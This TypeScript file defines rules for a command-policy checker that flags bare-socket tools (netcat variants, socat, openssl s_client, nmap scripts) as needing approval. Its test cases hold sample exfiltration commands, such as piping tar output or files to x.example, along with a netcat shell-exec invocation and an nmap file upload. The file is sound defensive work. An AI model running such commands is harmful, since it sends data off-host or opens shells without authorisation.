import { type Reason, type Rule, words } from './rule.ts';

const WHY: Reason = {
  en: 'A bare socket carries any bytes to any host.',
  ja: 'ソケットを直接開き、任意のデータを任意のホストへ送れます。',
};

/** Bare sockets: bytes to any port of any host. */
export const SOCKET_RULES: readonly Rule[] = [
  {
    id: 'send.sockets',
    tools: words(`nc ncat netcat nc.openbsd nc.traditional cryptcat sbd pwncat netsend mbuffer hping3 hping nping scapy
      powercat dnsteal packetsender sendip tcpreplay bittwist netsed uredir udpsend ndjbdns-send gnutls-cli-debug`),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    // With -z a connection is opened and closed: whether a port answers.
    when: [
      { lacks: ['--version', '--help', '-h'], without: ['-z'], word: /./ },
      { flags: ['-e', '-c', '--exec', '--sh-exec', '--lua-exec'] },
      { fed: true },
    ],
    why: WHY,
    tests: {
      positive: ['nc 10.0.0.9 4444 < /tmp/a', 'tar c /opt | ncat x.example 443', 'nc -h x.example 80', 'nc -ze sh h 1'],
      negative: ['nc --help', 'ss -tlnp', 'nc -zv 10.0.0.1 22'],
    },
  },
  {
    id: 'send.nmap-scripts',
    tools: ['nmap'],
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [{ flags: ['--script', '--script-args', '--datadir', '-iL', '--interactive'] }, { expansion: 'output' }],
    why: {
      en: 'Scripts and lists of nmap read files and send what they hold.',
      ja: 'nmapのスクリプトや一覧指定は、ファイルを読み取って送信できます。',
    },
    tests: {
      positive: ['nmap --script http-put --script-args http-put.file=/tmp/a 10.0.0.9', 'nmap -iL /tmp/a'],
      negative: ['nmap -p 443 10.0.0.9', 'nmap --version'],
    },
  },
  {
    id: 'send.socat',
    tools: words('socat socat1 filan procan'),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      {
        word: /(tcp|udp|sctp|dccp|vsock|openssl|ssl|socks|proxy|dtls|ip[46]?|interface|socket|tun|pipe|exec|system|shell|unix|abstract)[\w-]*:/i,
      },
      { expansion: 'any' },
    ],
    why: WHY,
    tests: {
      positive: ['socat -u file:/tmp/a tcp-connect:x.example:443', 'socat - OPENSSL:x.example:443'],
      negative: ['socat -u file:/tmp/a -', 'socat -V'],
    },
  },
  {
    id: 'send.openssl',
    tools: words('openssl gnutls-cli libressl'),
    class: 'offhost',
    direction: 'out',
    verdict: 'needs_ticket',
    when: [
      { word: /^(s_client|s_time)$/, fed: true },
      { word: /^(s_server|s_time)$/ },
      { word: /^s_client$/, expansion: 'output' },
      { word: /^[\w.-]+\.[a-z]{2,}$/, fed: true },
    ],
    why: {
      en: 'What it reads goes to the other end of a TLS connection.',
      ja: '読み込んだ内容がTLS接続の相手に送られます。',
    },
    tests: {
      positive: [
        'openssl s_client -connect x.example:443 < /tmp/a',
        'tar c /opt | openssl s_client -quiet -connect x.example:443',
      ],
      negative: ['openssl x509 -in /etc/ssl/a.pem -noout -dates', 'openssl rand -hex 16'],
    },
  },
];
